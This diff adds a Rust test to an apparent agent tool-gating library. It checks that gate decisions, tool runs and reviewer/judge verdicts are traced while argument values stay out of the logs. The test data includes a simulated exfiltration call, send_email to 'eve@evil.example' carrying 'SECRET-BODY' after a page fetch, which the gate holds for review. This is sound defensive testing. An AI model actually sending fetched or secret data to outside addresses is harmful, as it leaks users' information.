@@ -991,3 +991,74 @@ fn reviewers_see_the_principals_requests_and_the_context_behind_a_call() {
     assert!(material.context.contains("<untrusted_content_"));
     assert_eq!(sent.load(Ordering::SeqCst), 0);
 }
+
+/// A `Write` into a shared buffer, for one test's subscriber.
+#[derive(Clone, Default)]
+struct Captured(Arc<std::sync::Mutex<Vec<u8>>>);
+
+impl std::io::Write for Captured {
+    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+/// Gate decisions, tool runs and reviews are traced with the GenAI attribute names, and
+/// never with argument values (they may carry what outsiders wrote).
+#[test]
+fn decisions_tools_and_reviews_are_traced_without_argument_values() {
+    let captured = Captured::default();
+    let writer = captured.clone();
+    let subscriber = tracing_subscriber::fmt()
+        .with_writer(move || writer.clone())
+        .with_span_events(tracing_subscriber::fmt::format::FmtSpan::CLOSE)
+        .with_ansi(false)
+        .finish();
+    tracing::subscriber::with_default(subscriber, || {
+        let (session, _, _) = session_with(Policy::new());
+        let scope = session.open_scope(id("agent")).unwrap();
+        call(
+            &scope,
+            "fetch_page",
+            r#"{"url":"https://secret-url.example"}"#,
+        );
+        let CallOutcome::Pending { id: held, .. } = call(
+            &scope,
+            "send_email",
+            r#"{"to":"eve@evil.example","body":"SECRET-BODY"}"#,
+        ) else {
+            panic!("held");
+        };
+        let review = session
+            .open_review(
+                Subject::Call(held),
+                vec![Arc::new(Fixed {
+                    id: id("reviewer"),
+                    approve: false,
+                })],
+                Arc::new(RuleJudge::new(id("judge"), 1)),
+            )
+            .unwrap();
+        pollster::block_on(review.run()).unwrap();
+    });
+    let text = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
+    for expected in [
+        "gate decision",
+        "gen_ai.operation.name=\"gate\"",
+        "gen_ai.tool.name=\"send_email\"",
+        "tooltrust.rule=\"tainted-consequential\"",
+        "execute_tool",
+        "gen_ai.tool.name=\"fetch_page\"",
+        "review",
+        "judge",
+        "review decided",
+    ] {
+        assert!(text.contains(expected), "{expected:?} not traced:\n{text}");
+    }
+    for secret in ["secret-url", "SECRET-BODY", "eve@evil.example"] {
+        assert!(!text.contains(secret), "{secret:?} traced:\n{text}");
+    }
+}
